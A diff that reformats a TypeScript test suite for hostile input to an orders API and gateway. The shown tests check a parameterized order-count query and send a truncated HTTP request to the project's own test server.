-    const [row] = await stack.orders.query<{ n: number }>('SELECT COUNT(*) AS n FROM orders WHERE order_id = ?', [[...orderIds][0]]);
+    const [row] = await stack.orders.query<{ n: number }>('SELECT COUNT(*) AS n FROM orders WHERE order_id = ?', [
+      [...orderIds][0],
+    ]);
     expect(Number(row!.n)).toBe(1);
   });
 
@@ -514,7 +797,9 @@ describe('hostile input to every route of the API and the gateway', () => {
       const { hostname, port } = new URL(url);
       await new Promise<void>((resolve) => {
         const s = net.connect(Number(port), hostname, () => {
-          s.write(`POST /orders HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"customerId":`);
+          s.write(
+            `POST /orders HTTP/1.1\r\nHost: x\r\nAuthorization: ${BEARER}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"customerId":`,
+          );
           s.destroy();
           resolve();
         });
